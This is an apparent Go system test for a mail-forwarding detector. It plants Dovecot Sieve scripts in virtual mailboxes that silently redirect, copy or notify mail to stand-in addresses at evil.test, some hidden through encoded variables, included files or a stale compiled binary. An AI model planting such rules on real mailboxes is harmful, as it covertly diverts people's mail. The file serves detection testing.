package mailbox_test

import (
	"os"
	"path/filepath"
	"syscall"
	"testing"
	"time"

	"relayguard/systemtest/forward/forwardtest"
)

// sieveRules are rules in Sieve scripts. Each mailbox has a home with scripts that
// keep the mail before, but for the one that is new.
func sieveRules(s *mailStore, binary string) []mailRule {
	script := func(mailbox, text string) func(*testing.T, *world) {
		return func(t *testing.T, _ *world) { s.account.Plant(t, s.home(mailbox, "sieve/main.sieve"), text, 0o600) }
	}
	return []mailRule{
		{name: "redirect", plant: script("s1", `redirect "s1out@evil.test";`),
			want: "s1@vbox.test sieve s1out@evil.test outside redirect", source: "s1/.dovecot.sieve", how: "sieve"},
		{name: "redirect :copy", plant: script("s2", `require "copy"; redirect :copy "s2out@evil.test";`),
			want: "s2@vbox.test sieve s2out@evil.test outside copy", how: "sieve"},
		{name: "variables", plant: script("s3", `require ["variables","encoded-character","copy"];
set "name" "s3${hex:6f}ut"; set :lower "domain" "EVIL"; set "at" "${unicode:40}";
if true { redirect :copy "${name}${at}${domain}.test"; }`),
			want: "s3@vbox.test sieve s3out@evil.test outside copy", how: "sieve"},
		{name: "notification", plant: script("s4", `require "enotify"; notify :message "see: ${subject}" "mailto:s4out%40evil.test"; keep;`),
			want: "s4@vbox.test sieve s4out@evil.test outside copy", text: "see: ", how: "sieve notice"},
		{name: "compiled newer than its text", plant: func(t *testing.T, _ *world) {
			future := time.Now().Add(time.Hour)
			must(t, os.Chtimes(binary, future, future))
			must(t, os.Lchown(binary, s.account.UID, s.account.GID))
			must(t, os.Rename(binary, s.home("s5", ".dovecot.svbin")))
		}, want: "s5@vbox.test sieve s5out@evil.test outside redirect", differs: true, how: "sieve"},
		{name: "included", plant: func(t *testing.T, _ *world) {
			s.account.Plant(t, s.home("s6", "sieve/part.sieve"), `require ["include","variables"]; global "to"; redirect "${to}@evil.test";`, 0o600)
		}, want: "s6@vbox.test sieve s6out@evil.test outside redirect", how: "sieve"},
		{name: "another script made active", plant: func(t *testing.T, _ *world) { s.activate(t, "s7", "spare.sieve") },
			want: "s7@vbox.test sieve s7out@evil.test outside redirect", how: "sieve"},
		{name: "new mailbox", plant: func(t *testing.T, _ *world) {
			s.mailbox(t, "s8", map[string]string{".dovecot.sieve": `redirect "s8out@evil.test";`})
		}, want: "s8@vbox.test sieve s8out@evil.test outside redirect", how: "sieve"},
	}
}

// TestSieve: scripts of virtual mailboxes, whose homes only the mail store's account
// may enter.
func TestSieve(t *testing.T) {
	needSieve(t)
	dir := directory(t)
	s := newMailStore(t, dir)
	queueDir, configDir, mailLog := filepath.Join(dir, "queue"), filepath.Join(dir, "config"), filepath.Join(dir, "maillog")
	s.configure(t, queueDir, mailLog, s.bySendmail(t, configDir))
	for _, name := range []string{"s1", "s2", "s3", "s4"} {
		s.mailbox(t, name, map[string]string{"sieve/main.sieve": "keep;"})
		s.activate(t, name, "main.sieve")
	}
	s.mailbox(t, "s5", nil)
	binary := s.compile(t, `redirect "s5out@evil.test";`, "s5")
	s.mailbox(t, "s5", map[string]string{".dovecot.sieve": "keep;"})
	s.mailbox(t, "s6", map[string]string{"sieve/part.sieve": "keep;",
		".dovecot.sieve": `require ["include","variables"]; global "to"; set "to" "s6out"; include :personal "part";`})
	s.mailbox(t, "s7", map[string]string{"sieve/main.sieve": "keep;", "sieve/spare.sieve": `redirect "s7out@evil.test";`})
	s.activate(t, "s7", "main.sieve")
	w := start(t, dir, options{main: map[string]string{"virtual_transport": "lmtp:unix:private/dlmtp"}, forward: `dovecot = "` + filepath.Join(dir, "dovecot") + `"`})
	if w.QueueDir != queueDir || w.ConfigDir != configDir || w.LogPath() != mailLog {
		t.Fatalf("Postfix is in %s, %s, %s", w.QueueDir, w.ConfigDir, w.LogPath())
	}
	dovecot := s.serve(t, queueDir)
	t.Logf("the watch: %+v", forwardtest.Ask[forwardtest.Listed](t, w.Relay, "forwards", "list").Watch)
	proveAll(t, w, sieveRules(s, binary))

	t.Run("handed in by SMTP", func(t *testing.T) {
		dovecot.Stop(t, syscall.SIGTERM)
		s.configure(t, queueDir, mailLog, bySubmission(w.Addr(inbound)))
		s.serve(t, queueDir)
		s.mailbox(t, "s9", nil)
		mailRule{plant: func(t *testing.T, _ *world) {
			s.account.Plant(t, s.home("s9", ".dovecot.sieve"), `redirect "s9out@evil.test";`, 0o600)
		}, want: "s9@vbox.test sieve s9out@evil.test outside redirect", how: "sieve"}.prove(t, w)
	})
	t.Run("nothing unexplained", func(t *testing.T) {
		for _, r := range forwardtest.Ask[forwardtest.Listed](t, w.Relay, "forwards", "list").Findings {
			if r.Mechanism == "traffic" {
				t.Errorf("%s: %s", r, r.Source)
			}
		}
	})
}
